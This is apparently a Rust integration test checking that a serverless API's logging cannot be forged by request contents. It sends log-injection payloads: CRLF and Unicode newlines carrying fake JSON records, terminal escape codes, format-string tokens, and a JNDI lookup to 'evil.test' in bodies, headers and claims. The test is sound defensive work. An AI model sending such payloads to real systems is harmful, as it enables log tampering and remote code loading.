//! What people send cannot write a log: every line of a deployed function is one JSON record that the function made.

use std::fs::File;

use serde_json::{Value, json};

use crate::support::runtime_api::{Function, http_event};
use crate::support::{MODEL, TestStack};

/// What must never begin a line, or stand in one.
const FORGED: &str = "FORGED-LINE";

/// Texts that end a line, colour a terminal, break out of a string, or have no end.
fn texts() -> Vec<String> {
    let record = format!(r#"{{"level":"ERROR","message":"{FORGED}","status":200}}"#);
    vec![
        format!("a fox\n{record}\n"),
        format!("a fox\r\n{record}\r\n"),
        format!("a fox\u{2028}{record}\u{85}{record}"),
        format!("\u{1b}[2J\u{1b}[31m{FORGED}\u{1b}]0;{FORGED}\u{7}\u{8}\u{0}"),
        format!("\",\"message\":\"{FORGED}\",\"x\":\"{{}} %s %n ${{jndi:ldap://evil.test}}"),
        format!("{FORGED}{}", "x".repeat(1 << 20)),
    ]
}

#[tokio::test]
async fn whatever_is_sent_a_log_line_is_one_record_of_ours() {
    let stack = TestStack::start_with(|options| options.workers = false).await;
    let file = stack.folder.path().join("log");
    let more = [
        ("OWNKEY_QUEUE_OPENAI", "http://127.0.0.1:1/openai-none"),
        ("OWNKEY_QUEUE_BFL", "http://127.0.0.1:1/bfl-none"),
        ("AWS_LAMBDA_LOG_LEVEL", "trace"),
    ];
    let log = File::create(&file).unwrap();
    let jobs = Function::start_logging("jobs", &stack, &more, log.try_clone().unwrap()).await;
    let api_keys = Function::start_logging("api-keys", &stack, &more, log).await;
    let mut sent = 0;
    for text in texts() {
        let image = json!({ "model": MODEL, "prompt": text });
        let api_key = json!({ "api_key": text, "label": text });
        let label = json!({ "api_key": "sk-sandbox-ok-0000000000000001", "label": text });
        for (function, method, path, scope, body) in [
            (&jobs, "POST", "/v1/jobs", "jobs:write", image.clone()),
            (&jobs, "POST", "/v1/jobs", "jobs:write", json!({ "model": text, "prompt": "a", (&text): 1 })),
            (&jobs, "POST", "/v1/personas", "jobs:write", json!({ "brief": text })),
            (&jobs, "POST", "/v1/estimates", "jobs:read", image),
            (&api_keys, "PUT", "/v1/api-keys/openai", "keys:write", api_key),
            (&api_keys, "PUT", "/v1/api-keys/openai", "keys:write", label),
        ] {
            let mut event = http_event(method, path, Some(scope), Some(body));
            // In headers and addresses only what HTTP lets through, which a gateway may decode.
            let printable: String =
                text.chars().filter(|letter| (' '..='~').contains(letter)).take(8_000).collect();
            event["headers"]["user-agent"] = json!(printable);
            event["headers"]["x-request-id"] = json!(printable);
            event["requestContext"]["http"]["userAgent"] = json!(text);
            event["requestContext"]["authorizer"]["jwt"]["claims"]["sub"] = json!(text);
            event["rawQueryString"] =
                json!(format!("verify=false&x={FORGED}%0A%7B%22message%22:%22{FORGED}%22%7D"));
            let answer = function.invoke(event.clone()).await.unwrap();
            assert!(answer["statusCode"].as_u64().unwrap() < 500, "{answer}");
            // And once with everything about the caller in order, so that the text gets as far as it can.
            event["requestContext"]["authorizer"]["jwt"]["claims"]["sub"] = json!("ada-user");
            event["rawQueryString"] = json!(if path.contains("api-keys") { "verify=false" } else { "" });
            let answer = function.invoke(event).await.unwrap();
            assert!(answer["statusCode"].as_u64().unwrap() < 500, "{answer}");
            sent += 2;
        }
        let odd = format!("/v1/{FORGED}%0A{FORGED}%1b%5b31m");
        let answer = jobs.invoke(http_event("GET", &odd, Some("jobs:read"), None)).await.unwrap();
        assert_eq!(answer["statusCode"], 404, "{answer}");
        sent += 1;
    }
    drop((jobs, api_keys));
    let log = std::fs::read_to_string(&file).unwrap();
    let mut requests = 0;
    for line in log.lines() {
        let record: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("no record: {line:.300}"));
        assert!(record["timestamp"].is_string() && record["level"].is_string(), "{line:.300}");
        assert!(line.len() < 4_096 && !line.contains(FORGED), "{line:.300}");
        requests += u32::from(record["message"] == "request");
    }
    assert_eq!(requests, sent, "one line for each request");
    println!("{sent} requests, {} lines", log.lines().count());
}
